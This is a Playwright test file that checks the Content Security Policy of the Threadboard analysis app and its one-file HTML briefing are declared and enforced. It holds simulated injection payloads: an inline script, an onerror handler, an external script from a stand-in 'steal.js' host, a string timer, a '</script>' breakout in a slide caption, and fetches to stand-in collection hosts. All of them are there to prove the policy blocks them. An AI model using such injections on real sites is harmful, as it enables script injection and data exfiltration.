/**
 * The Content Security Policy of the app (svelte.config.js, written by SvelteKit into
 * each prerendered page) and of the one-file briefing (src/lib/briefing/briefing-csp.ts,
 * written into build-single/threadboard.html at build time): read from the built pages,
 * then shown to be enforced. Injected code is refused and reported, and the product,
 * used as an analyst would, reports no violation at all.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { test, expect, type BrowserContext, type Page } from '@playwright/test';
import { declaredPolicy, inlineCode } from '../../src/lib/briefing/briefing-csp';
import { briefingHtml } from '../../src/lib/briefing/briefing-html';
import type { SlidesFile } from '../../src/lib/briefing/slide-types';
import { collectConsoleErrors, openApp } from './helpers';

const SINGLE_FILE = fileURLToPath(new URL('../../build-single/threadboard.html', import.meta.url));
const JOINT_UNIT_QUOTE = 'Senior Haqqani Network figures have discussed forming a new joint unit';

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

interface Violation {
	directive: string;
	blocked: string;
}

/** Records every securitypolicyviolation event of every page in the context, from the first script on. */
async function recordViolations(context: BrowserContext): Promise<void> {
	await context.addInitScript(() => {
		const seen: { directive: string; blocked: string }[] = [];
		Object.defineProperty(window, '__cspViolations', { value: seen });
		document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
	});
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations);

/**
 * Tries what an attacker who got markup into the page would: an inline script, an inline
 * event handler, a script from another site, code from a string. Returns what ran.
 */
async function injectCode(page: Page, foreignScript: string): Promise<string[]> {
	return page.evaluate(async (foreign) => {
		const ran: string[] = [];
		const record = window as unknown as Record<string, (what: string) => void>;
		record.__ran = (what) => ran.push(what);
		const script = document.createElement('script');
		script.textContent = '__ran("inline script")';
		document.body.append(script);
		const image = document.createElement('img');
		image.setAttribute('onerror', '__ran("event handler")');
		image.src = 'data:,not-an-image';
		document.body.append(image);
		const external = document.createElement('script');
		external.src = foreign;
		document.body.append(external);
		// A string timer is code from a string, like eval (which runs here only because the test harness calls it).
		(setTimeout as unknown as (code: string, delay: number) => void)('__ran("string timer")', 0);
		await new Promise((resolve) => setTimeout(resolve, 200));
		return ran;
	}, foreignScript);
}

/** What injectCode makes the browser report, in any order. */
const INJECTION_REPORTS = expect.arrayContaining([
	{ directive: 'script-src-elem', blocked: 'inline' },
	{ directive: 'script-src-attr', blocked: 'inline' },
	{ directive: 'script-src-elem', blocked: 'https://scripts.example/steal.js' },
	{ directive: 'script-src', blocked: 'eval' }
]);

/** Selects an actor in the graph and checks the evidence and the map: the product, working. */
async function useTheWorkspace(page: Page): Promise<void> {
	await page.locator('.workspace [data-node-id="haqqani-network"]').click();
	await expect(page.getByRole('region', { name: 'Evidence' }).locator('blockquote', { hasText: JOINT_UNIT_QUOTE }).first()).toBeVisible();
	await expect(page.locator('.workspace [data-place-id="north-waziristan"]')).toBeVisible();
	await expect(page.locator('.workspace [data-area-place-id="north-waziristan"]')).toHaveCount(1);
}

test.describe('the app', () => {
	// Both prerendered pages: the library and the workspace.
	for (const route of ['/', '/view/']) {
		test(`its prerendered page ${route} declares the policy: own files, hashed start-up code and hashed page styles only`, async ({ request }) => {
			const html = await (await request.get(route)).text();
			const policy = declaredPolicy(html);
			// SvelteKit puts the meta first in the head, so it covers every script and stylesheet.
			const meta = html.search(/<meta http-equiv="content-security-policy"/i);
			expect(meta).toBeGreaterThan(0);
			expect(html.slice(0, meta)).not.toMatch(/<script|<link/);

			const scripts = inlineCode(html).filter((code) => code.kind === 'script');
			expect(scripts.length).toBeGreaterThan(0);
			expect(policy.get('script-src')).toEqual(["'self'", ...scripts.map((script) => sha256(script.text))]);
			// The page's styles are inlined (one request for the page, none render-blocking), each allowed by its hash;
			// SvelteKit adds the hash of "/* empty */" too, which Svelte may write into a style element.
			const styles = inlineCode(html).filter((code) => code.kind === 'style');
			expect(styles.length).toBeGreaterThan(0);
			expect(new Set(policy.get('style-src-elem'))).toEqual(new Set(["'self'", sha256('/* empty */'), ...styles.map((style) => sha256(style.text))]));
			expect(Object.fromEntries([...policy].filter(([name]) => name !== 'script-src' && name !== 'style-src-elem'))).toEqual({
				'default-src': ["'self'"],
				'style-src-attr': ["'unsafe-inline'"],
				'style-src': ["'self'", "'unsafe-inline'"],
				'img-src': ["'self'", 'data:', 'blob:'],
				'font-src': ["'self'", 'data:'],
				'worker-src': ["'self'", 'blob:'],
				'connect-src': ["'self'"],
				'object-src': ["'none'"],
				'base-uri': ["'none'"],
				'form-action': ["'self'"]
			});
		});
	}

	test('the library, the workspace and a PNG export work under it and report no violation', async ({ page, context }) => {
		await recordViolations(context);
		const errors = collectConsoleErrors(page);
		await openApp(page, '/');
		await expect(page.getByRole('heading', { level: 1, name: 'Library' })).toBeVisible();
		await page.getByRole('list', { name: 'Datasets' }).getByRole('listitem').filter({ hasText: 'Built-in' }).first().getByRole('link', { name: 'Open' }).click();
		await page.locator('.workspace').waitFor();
		await useTheWorkspace(page);
		// PNG export draws the view from a blob: URL, with the fonts as data: URLs.
		await page.getByText('Export', { exact: true }).click();
		const [png] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /as PNG/ }).click()]);
		expect(png.suggestedFilename()).toMatch(/\.png$/);
		expect(await violations(page)).toEqual([]);
		expect(errors).toEqual([]);
	});

	test('injected code is refused and reported, and nothing is sent to another site', async ({ page, context }) => {
		await recordViolations(context);
		await openApp(page);
		expect(await injectCode(page, 'https://scripts.example/steal.js')).toEqual([]);
		expect(await violations(page)).toEqual(INJECTION_REPORTS);
		const sent = await page.evaluate(() => fetch('https://collect.example/').then(() => 'sent', () => 'refused'));
		expect(sent).toBe('refused');
		expect(await violations(page)).toContainEqual({ directive: 'connect-src', blocked: 'https://collect.example/' });
	});
});

test.describe('the one-file briefing', () => {
	// A briefing with a deck whose caption tries to end its script element: data, never code.
	const deck: SlidesFile = {
		format: 'threadboard-slides',
		version: 1,
		dataset: 'haqqani-al-qaeda-joint-unit',
		slides: [{ id: 'one', title: 'The joint unit', caption: 'Not code: </script><script>__ran("caption")</script>', view: '?actor=haqqani-network' }]
	};
	let folder = '';
	let briefing = '';

	test.beforeAll(() => {
		if (!existsSync(SINGLE_FILE)) throw new Error(`${SINGLE_FILE} is missing: run \`npm run build\` (or \`npm run build:single\`) first.`);
		folder = mkdtempSync(path.join(tmpdir(), 'threadboard-csp-'));
		briefing = path.join(folder, 'briefing.html');
		writeFileSync(briefing, briefingHtml(readFileSync(SINGLE_FILE, 'utf8'), deck, 'Briefing under a policy'));
	});
	test.afterAll(() => rmSync(folder, { recursive: true, force: true }));

	async function openBriefing(page: Page): Promise<void> {
		await page.goto(pathToFileURL(briefing).href);
		await page.locator('html[data-ready="true"]').waitFor({ state: 'attached' });
	}

	test('declares a policy that allows nothing but its own hashed script and style', () => {
		const html = readFileSync(SINGLE_FILE, 'utf8');
		const policy = declaredPolicy(html);
		const code = inlineCode(html);
		const hashes = (kind: 'script' | 'style') => code.filter((item) => item.kind === kind).map((item) => sha256(item.text));
		expect(hashes('script')).toHaveLength(1);
		expect(hashes('style')).toHaveLength(1);
		expect(Object.fromEntries(policy)).toEqual({
			'default-src': ["'none'"],
			'script-src': hashes('script'),
			'style-src-elem': hashes('style'),
			'style-src-attr': ["'unsafe-inline'"],
			'style-src': ["'unsafe-inline'"],
			'img-src': ['data:', 'blob:'],
			'font-src': ['data:'],
			'worker-src': ['blob:'],
			'connect-src': ["'none'"],
			'object-src': ["'none'"],
			'base-uri': ["'none'"],
			'form-action': ["'none'"]
		});
		// Right after <meta charset>: a policy covers only what follows it.
		expect(html.slice(0, html.indexOf('Content-Security-Policy'))).not.toMatch(/<script|<style|<link/);
		// The deck briefingHtml embeds is data, not code: a briefing's policy is the template's, unchanged.
		expect(declaredPolicy(readFileSync(briefing, 'utf8'))).toEqual(policy);
	});

	test('a briefing with slides, opened from disk, works under it and reports no violation', async ({ page, context }) => {
		await recordViolations(context);
		const errors = collectConsoleErrors(page);
		await openBriefing(page);
		// A briefing with slides opens presenting its first one; the live view is one click away.
		await page.getByRole('dialog', { name: 'Presentation' }).getByRole('button', { name: /Back to live view/ }).click();
		await expect(page.getByRole('button', { name: 'Slides (1)' })).toBeVisible();
		await useTheWorkspace(page);
		expect(await violations(page)).toEqual([]);
		expect(errors).toEqual([]);
	});

	test('injected code is refused and reported, and nothing is sent anywhere', async ({ page, context }) => {
		await recordViolations(context);
		await openBriefing(page);
		expect(await injectCode(page, 'https://scripts.example/steal.js')).toEqual([]);
		expect(await violations(page)).toEqual(INJECTION_REPORTS);
		// connect-src 'none': a page opened from disk sends nothing, not even to a local server.
		const sent = await page.evaluate(() => fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'refused'));
		expect(sent).toBe('refused');
		expect(await violations(page)).toContainEqual({ directive: 'connect-src', blocked: 'http://127.0.0.1:9/' });
	});
});
